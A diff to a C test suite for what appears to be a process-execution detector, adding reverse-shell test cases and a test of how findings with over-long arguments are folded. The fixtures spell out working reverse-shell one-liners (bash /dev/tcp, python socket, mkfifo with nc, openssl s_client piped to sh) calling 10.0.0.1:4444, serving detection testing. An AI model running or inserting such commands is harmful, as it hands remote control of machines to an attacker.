@@ -97,11 +97,10 @@ expect(struct st_recipes *rs, const struct spec *s, const char *want)
 	char *got;
 	size_t i;
 
-	for (i = 0; s->argv[i] != NULL; i++) {
-		if (i > 0)
-			st_buf_addc(&line, ' ');
-		st_buf_adds(&line, s->argv[i]);
-	}
+	for (i = 0; s->argv[i] != NULL; i++)
+		;
+	/* quoted as in a report: a newline would end the TAP line */
+	st_format_argv(&line, (char *const *)s->argv, i, 0);
 	got = run(rs, s, NULL);
 	is_str(got, want, "%s: [%s] %s", want[0] ? want : "none", s->exe,
 	    st_buf_cstr(&line));
@@ -455,11 +454,85 @@ test_reverse_shell(struct st_recipes *rs)
 		{ { "/usr/bin/dash", { "sh", "-c", "mkfifo /tmp/p && "
 		    "openssl s_client -quiet -connect h:4 < /tmp/p | sh > "
 		    "/tmp/p" } }, "reverse_shell" },
+		/* the same after a newline in the argument: . must match
+		 * it (PCRE2_DOTALL), or one line of padding hides them */
+		{ { "/usr/bin/bash", { "bash", "-c",
+		    "true\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1" } },
+		    "reverse_shell" },
+		{ { "/usr/bin/python3.11", { "python3", "-c", "import socket,os"
+		    "\ns=socket.socket();s.connect((\"10.0.0.1\",4444))\n"
+		    "os.dup2(s.fileno(),0)" } },
+		    "code_on_the_fly,reverse_shell" },
+		{ { "/usr/bin/dash", { "sh", "-c", "cd /tmp\nrm -f /tmp/f; "
+		    "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 "
+		    "> /tmp/f" } }, "reverse_shell" },
+		{ { "/usr/bin/dash", { "sh", "-c", "true\nopenssl s_client "
+		    "-quiet -connect 10.0.0.1:4444 | /bin/sh" } },
+		    "reverse_shell" },
 	};
 	size_t i;
 
 	for (i = 0; i < sizeof cases / sizeof cases[0]; i++)
 		expect(rs, &cases[i].s, cases[i].want);
+}
+
+/* ------------------------------------------------------ folding findings */
+
+struct fold {
+	struct st_findings	 fs;
+	struct st_steps		 ss;
+	struct st_proc		*p;
+};
+
+static void
+on_fold(const struct st_recipe *r, const struct st_alt *alt, void *arg)
+{
+	struct fold *fo = arg;
+
+	st_findings_add(&fo->fs, &fo->ss, r, alt, fo->p);
+}
+
+/*
+ * A finding keeps at most 64 kB of argv as evidence; the same exec again,
+ * argument for argument, is folded into it all the same, and one that
+ * differs only past the cut is not.
+ */
+static void
+test_fold_cut_argv(struct st_recipes *rs)
+{
+	static const char *const sh[] = { "bash", NULL };
+	struct st_proctree *t = st_proctree_new();
+	struct fold fo;
+	const char *argv[4] = { "python3", "-c", NULL, NULL };
+	char *a = xmalloc(70001), *b;
+	int pid;
+
+	memset(a, 'a', 70000);
+	a[70000] = '\0';
+	b = xstrdup(a);
+	b[69999] = 'b';
+	st_findings_init(&fo.fs);
+	st_steps_init(&fo.ss);
+	push_exec(t, 1, 100, 50, "/usr/bin/bash", sh, NULL, NULL);
+	for (pid = 101; pid <= 103; pid++) {
+		argv[2] = pid < 103 ? a : b;
+		push_exec(t, (unsigned long)pid, pid, 100, "/usr/bin/python3.11",
+		    argv, NULL, NULL);
+		fo.p = st_proctree_find(t, 0, pid);
+		st_match_exec(rs, fo.p, on_fold, &fo);
+	}
+	ok(fo.fs.n == 2 && fo.fs.v[0]->count == 2 && fo.fs.v[1]->count == 1,
+	    "fold: the same 70 kB argument twice is one finding (twice), one "
+	    "differing past the 64 kB evidence cut another (%zu findings)",
+	    fo.fs.n);
+	ok(fo.fs.n > 0 && fo.fs.v[0]->argv_truncated &&
+	    fo.fs.v[0]->argc_seen == 3, "fold: the evidence says it was cut, "
+	    "and how many arguments there were");
+	st_findings_free(&fo.fs);
+	st_steps_free(&fo.ss);
+	st_proctree_free(t);
+	free(a);
+	free(b);
 }
 
 int
@@ -479,6 +552,7 @@ main(void)
 	test_loader_recipe(&rs);
 	test_unusual_dir(&rs);
 	test_reverse_shell(&rs);
+	test_fold_cut_argv(&rs);
 	st_recipes_free(&rs);
 	return done_testing();
 }
